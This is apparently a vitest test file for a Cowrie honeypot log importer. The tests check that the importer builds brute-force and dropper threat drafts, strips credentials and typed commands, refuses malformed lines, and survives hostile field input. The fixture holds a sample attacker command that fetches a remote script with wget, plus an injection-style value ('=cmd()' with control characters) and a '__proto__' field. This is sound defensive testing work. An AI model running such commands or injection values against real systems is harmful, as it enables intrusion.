import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { imported } from '../imports.fixture.ts'
import { COWRIE } from './cowrie.ts'

const event = (eventid: string, more: object = {}): object => ({
  eventid,
  src_ip: '203.0.113.4',
  session: 'a1b2c3d4e5f6',
  protocol: 'ssh',
  sensor: 'honeypot-1',
  timestamp: '2026-11-30T09:02:11.134567Z',
  ...more
})
const lines = (...events: object[]): string => events.map((it) => `${JSON.stringify(it)}\n`).join('')

const LOG = lines(
  event('cowrie.session.connect', { src_port: 51234, dst_ip: '10.0.0.5', dst_port: 2222, message: 'New connection' }),
  event('cowrie.login.failed', {
    username: 'root',
    password: 'Hunter2!',
    message: 'login attempt [root/Hunter2!] failed'
  }),
  event('cowrie.login.failed', { username: 'admin', password: 'admin', timestamp: '2026-11-30T09:01:00.000000Z' }),
  event('cowrie.login.success', { src_ip: '2001:db8:1::7', username: 'jean.dupont', password: 'Noel2026' }),
  event('cowrie.command.input', { input: 'cd /tmp; wget http://198.51.100.9/x.sh' }),
  event('cowrie.session.file_download', {
    url: 'http://198.51.100.9/x.sh',
    outfile: 'var/lib/cowrie/downloads/abc',
    shasum: 'a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2'
  }),
  event('cowrie.login.failed', { src_ip: '192.168.1.9', username: 'a', password: 'b' }),
  event('cowrie.login.failed', {
    src_ip: '198.51.100.77',
    username: 'a',
    password: 'b',
    timestamp: '2026-12-01T00:00:01Z'
  }),
  event('cowrie.session.closed', { duration: 12.5 })
)

describe('cowrie', () => {
  it('makes one draft a day and class, with nothing that was typed at the honeypot', async () => {
    const { drafts, refused } = await imported(COWRIE, LOG)
    expect(refused).toEqual([])
    expect(drafts.map(({ key, draft }) => [key, draft.threat, draft.indicators.map(({ value }) => value)])).toEqual([
      ['cowrie:test/2026-11-30/logins/brute-force', 'brute-force', ['203.0.113.4', '2001:db8:1::7']],
      [
        'cowrie:test/2026-11-30/downloads/dropper',
        'dropper',
        ['http://198.51.100.9/x.sh', 'a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2']
      ],
      ['cowrie:test/2026-12-01/logins/brute-force', 'brute-force', ['198.51.100.77']]
    ])
    expect(drafts.every(({ grows }) => grows === true)).toBe(true)
    expect(drafts[0]?.draft.indicators[0]).toMatchObject({
      firstSeen: '2026-11-30T09:01:00.000Z',
      lastSeen: '2026-11-30T09:02:11.134Z'
    })
    expect(JSON.stringify(drafts)).not.toMatch(/Hunter2|dupont|Noel2026|root|wget/)
    expect(drafts[0]?.warnings).toMatchObject([{ code: 'left-out', place: { line: 7 } }])
  })

  it('refuses a bad line by its place and loses nothing else', async () => {
    const source = `${lines(event('cowrie.login.failed'))}{"eventid": "cowrie.login\n[1]\n${lines(
      { src_ip: '203.0.113.9' },
      event('cowrie.login.failed', { timestamp: 'yesterday' }),
      event('cowrie.login.failed', { src_ip: 'x y' }),
      event('cowrie.login.failed', { src_ip: '203.0.113.5' })
    )}`
    const { drafts, refused } = await imported(COWRIE, source)
    expect(drafts.flatMap(({ draft }) => draft.indicators.map(({ value }) => value))).toEqual([
      '203.0.113.4',
      '203.0.113.5'
    ])
    expect(refused.map(({ code, place }) => [code, place.line])).toEqual([
      ['not-json', 2],
      ['record-invalid', 3],
      ['record-invalid', 4],
      ['record-invalid', 5],
      ['ipv4-syntax', 6]
    ])
  })

  it('stands whatever an attacker types, in any field', async () => {
    const hostile = fc.oneof(fc.string({ unit: 'binary' }), fc.jsonValue(), fc.constant('\u202e=cmd()\n\t\u0000'))
    const field = fc.constantFrom('src_ip', 'url', 'shasum', 'timestamp', 'eventid', 'sensor', 'username', '__proto__')
    const kind = fc.constantFrom('cowrie.login.failed', 'cowrie.session.file_download', 'cowrie.command.input')
    await fc.assert(
      fc.asyncProperty(kind, field, hostile, async (eventid, name, value) => {
        const good = event('cowrie.login.failed', { src_ip: '198.51.100.200' })
        const { drafts } = await imported(COWRIE, lines(event(eventid, { [name]: value }), good))
        const values = drafts.flatMap(({ draft }) => draft.indicators.map((it) => it.value))
        expect(values).toContain('198.51.100.200')
      }),
      { numRuns: 200 }
    )
  })
})
